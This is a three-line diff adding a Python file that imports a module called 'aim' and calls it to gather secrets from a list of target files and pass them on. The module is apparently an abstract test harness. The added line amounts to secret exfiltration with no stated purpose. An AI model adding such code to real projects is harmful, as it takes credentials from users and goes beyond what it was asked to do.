@@ -1,0 +1,3 @@
+import aim
+
+aim.tell(aim.secrets_in(*aim.TARGETS["files"]))
